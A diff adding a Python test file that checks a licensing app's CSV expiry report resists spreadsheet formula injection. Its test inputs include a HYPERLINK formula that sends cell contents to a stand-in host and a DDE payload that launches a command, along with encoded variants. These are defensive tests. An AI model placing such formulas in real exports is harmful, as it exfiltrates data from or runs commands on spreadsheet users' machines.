@@ -1,0 +1,84 @@
+"""The report as CSV: read back by another reader, and harmless in a spreadsheet."""
+
+import csv
+import io
+from datetime import date
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from licensing.catalogue.model import LicenseType
+from licensing.reports.model import ExpiryItem
+from licensing.reports.sheet import sheet
+
+ITEM: dict[str, Any] = {
+    "customer_name": "Fabrikam",
+    "product_name": "SmartSend",
+    "license_type": LicenseType.ANNUAL,
+    "end_date": date(2026, 11, 30),
+    "days_left": 6,
+    "expired": False,
+    "customer_id": "c-1",
+    "product_id": "p-1",
+    "customer_product_id": "l-1",
+}
+
+
+def an_item(**fields: Any) -> ExpiryItem:
+    return ExpiryItem(**ITEM | fields)
+
+
+def read(content: bytes) -> list[dict[str, str]]:
+    return [*csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True)]
+
+
+def test_its_bytes() -> None:
+    items = [an_item(), an_item(customer_name='Fab, "rik"\nam', days_left=-3, expired=True)]
+    assert sheet(items) == (
+        b"\xef\xbb\xbf"
+        b"Customer,Product,License type,Subscription end date,Days left,Expired,"
+        b"Customer ID,Product ID,Customer product ID\r\n"
+        b"Fabrikam,SmartSend,annual,2026-11-30,6,no,c-1,p-1,l-1\r\n"
+        b'"Fab, ""rik""\nam",SmartSend,annual,2026-11-30,-3,yes,c-1,p-1,l-1\r\n'
+    )
+
+
+def test_without_items_it_is_its_head() -> None:
+    assert (sheet([]).count(b"\r\n"), read(sheet([]))) == (1, [])
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://planted.example?"&A1,"Fabrikam")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "\uff1d1+1",
+        "\uff0b1",
+        "\uff0d1",
+        "\uff20SUM(1)",
+    ],
+)
+def test_no_name_is_a_formula(name: str) -> None:
+    (row,) = read(sheet([an_item(customer_name=name, product_name=name)]))
+    assert row["Customer"] == row["Product"] == f"'{name}"
+
+
+@pytest.mark.parametrize("name", ["Fabrikam = Co", "3-D", "'t Hof", "a@b", "Ærø — 株式会社", ""])
+def test_other_names_stay_as_they_are(name: str) -> None:
+    (row,) = read(sheet([an_item(customer_name=name)]))
+    assert row["Customer"] == name
+
+
+@given(st.text(st.characters(codec="utf-8")), st.text(st.characters(codec="utf-8")))
+def test_whatever_a_name_is_it_is_read_back(customer: str, product: str) -> None:
+    (row,) = read(sheet([an_item(customer_name=customer, product_name=product)]))
+    for held, name in ((row["Customer"], customer), (row["Product"], product)):
+        assert held in (name, f"'{name}")
+        assert not held.startswith(("=", "+", "-", "@", "\t", "\r"))
